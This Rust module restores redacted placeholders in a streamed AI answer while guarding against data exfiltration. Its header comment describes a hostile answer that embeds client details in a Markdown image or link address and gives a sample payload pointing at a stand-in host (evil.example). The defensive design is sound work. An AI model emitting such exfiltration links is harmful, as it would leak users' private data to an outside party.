//! Restoring placeholders in an answer that arrives in pieces cut anywhere, even inside a
//! placeholder or a multi-byte character's neighbour.
//!
//! A hostile answer may ask for a client's details inside a link or image address
//! (`![x](https://evil.example/?q=[CLIENT_1])`) so that showing or clicking it sends them away.
//! Placeholders inside anything a Markdown or HTML renderer could turn into an address stay as
//! written: an inline link or image destination (`](` to its closing `)`), anything between `<`
//! and `>` that starts like a tag or an autolink, and a word that contains `//` or starts with
//! `www.` (bare URLs, protocol-relative ones, reference definitions). [`LinkContext`] follows
//! these across pieces, so where the answer is cut changes nothing.

use std::collections::HashMap;

use super::{Kind, RedactionMap};

/// Placeholders never number past this many digits; a longer run cannot be one of ours.
const MAX_DIGITS: usize = 6;

/// Restores a streamed answer: [`push`](Self::push) each piece as it arrives and show what it
/// returns; [`finish`](Self::finish) at the end. Only a tail that may still become a placeholder
/// (`[CLI`, `[A_NUMBER_1`) is held back, at most a placeholder's length, so the work is linear
/// in the answer's length. Placeholders the request did not use (an invented `[CLIENT_9]`) stay
/// as written.
pub struct Rehydrator {
    originals: HashMap<String, String>,
    pending: String,
    /// Where the text shown so far (not `pending`) ends, in Markdown terms.
    context: LinkContext,
}

impl Rehydrator {
    pub fn new(map: &RedactionMap) -> Self {
        Self {
            originals: map
                .entries()
                .iter()
                .map(|e| (e.placeholder.clone(), e.original.clone()))
                .collect(),
            pending: String::new(),
            context: LinkContext::default(),
        }
    }

    /// The restored text that is safe to show now.
    pub fn push(&mut self, delta: &str) -> String {
        if self.pending.is_empty() {
            let (out, held) = restore(&self.originals, &mut self.context, delta);
            self.pending.push_str(&delta[held..]);
            out
        } else {
            self.pending.push_str(delta);
            let (out, held) = restore(&self.originals, &mut self.context, &self.pending);
            self.pending.drain(..held);
            out
        }
    }

    /// Everything still held back (a `[` that never became a placeholder), as written.
    pub fn finish(&mut self) -> String {
        std::mem::take(&mut self.pending)
    }
}

/// `text` restored up to the tail that may still become a placeholder, and where that tail
/// starts (`text.len()` when there is none); `context` is advanced over what is returned.
fn restore(
    originals: &HashMap<String, String>,
    context: &mut LinkContext,
    text: &str,
) -> (String, usize) {
    let bytes = text.as_bytes();
    let mut out = String::with_capacity(text.len());
    let mut copied = 0;
    let mut at = 0;
    while at < bytes.len() {
        if bytes[at] == b'[' {
            match placeholder_at(&bytes[at..]) {
                Parse::Complete(len) => {
                    out.push_str(&text[copied..at]);
                    let written = &text[at..at + len];
                    let original = originals.get(written).filter(|_| !context.in_address());
                    out.push_str(original.map_or(written, String::as_str));
                    context.advance(&bytes[at..at + len]);
                    at += len;
                    copied = at;
                    continue;
                }
                Parse::Partial => {
                    out.push_str(&text[copied..at]);
                    return (out, at);
                }
                Parse::Not => {}
            }
        }
        context.advance(&bytes[at..=at]);
        at += 1;
    }
    out.push_str(&text[copied..]);
    (out, text.len())
}

/// What the text read so far leaves open that a renderer would read as an address.
#[derive(Debug, Default, Clone, Copy)]
struct LinkContext {
    /// Inside an inline link or image destination: the depth of `(` within it.
    destination: Option<u32>,
    /// Inside `<…>` that starts like a tag or an autolink.
    angle: bool,
    /// The byte before was a `<` whose meaning the next byte decides.
    after_angle: bool,
    /// The current word (run without whitespace) reads as a URL.
    url_word: bool,
    /// The last bytes read, newest last.
    recent: [u8; 4],
}

impl LinkContext {
    /// Whether a placeholder here would be part of an address.
    fn in_address(&self) -> bool {
        self.destination.is_some() || self.angle || self.url_word
    }

    fn advance(&mut self, bytes: &[u8]) {
        for &byte in bytes {
            self.step(byte);
        }
    }

    fn step(&mut self, byte: u8) {
        let [first, .., last] = self.recent;
        if std::mem::take(&mut self.after_angle) {
            self.angle = byte.is_ascii_alphabetic() || matches!(byte, b'/' | b'!' | b'?');
        }
        match byte {
            b'<' if !self.angle => self.after_angle = true,
            b'>' => self.angle = false,
            _ => {}
        }
        if let Some(depth) = &mut self.destination {
            match byte {
                b'(' => *depth += 1,
                b')' if *depth == 0 => self.destination = None,
                b')' => *depth -= 1,
                // A blank line ends any inline construct.
                b'\n' if last == b'\n' => self.destination = None,
                _ => {}
            }
        } else if byte == b'(' && last == b']' {
            self.destination = Some(0);
        }
        if byte == b'\n' && last == b'\n' {
            self.angle = false;
        }
        if byte.is_ascii_whitespace() {
            self.url_word = false;
        } else if (byte == b'/' && last == b'/')
            || (byte == b'.' && self.recent[1..] == *b"www" && !first.is_ascii_alphanumeric())
        {
            self.url_word = true;
        }
        self.recent = [self.recent[1], self.recent[2], self.recent[3], byte];
    }
}

#[cfg(test)]
mod tests;

enum Parse {
    /// A whole placeholder of this many bytes.
    Complete(usize),
    /// The text ends while it could still be one.
    Partial,
    Not,
}

/// Whether `text` (which starts with `[`) starts with `[LABEL_123]`.
fn placeholder_at(text: &[u8]) -> Parse {
    let body = &text[1..];
    for kind in Kind::ALL {
        let label = kind.label().as_bytes();
        let shared = body.len().min(label.len());
        if body[..shared] != label[..shared] {
            continue;
        }
        // `_` then digits then `]`.
        let Some(rest) = body.get(label.len()..) else {
            return Parse::Partial;
        };
        return match rest.split_first() {
            None => Parse::Partial,
            Some((b'_', number)) => {
                let digits = number
                    .iter()
                    .take(MAX_DIGITS + 1)
                    .take_while(|b| b.is_ascii_digit())
                    .count();
                // Another written form of the same value: `[CLIENT_1.2]`.
                let form = match (digits, number.get(digits)) {
                    (1.., Some(b'.')) => {
                        let rest = &number[digits + 1..];
                        1 + rest
                            .iter()
                            .take(MAX_DIGITS + 1)
                            .take_while(|b| b.is_ascii_digit())
                            .count()
                    }
                    _ => 0,
                };
                match number.get(digits + form) {
                    _ if digits > MAX_DIGITS || form > MAX_DIGITS + 1 => Parse::Not,
                    None => Parse::Partial,
                    Some(b']') if digits > 0 && form != 1 => {
                        Parse::Complete(1 + label.len() + 1 + digits + form + 1)
                    }
                    Some(_) => Parse::Not,
                }
            }
            Some(_) => Parse::Not,
        };
    }
    Parse::Not
}
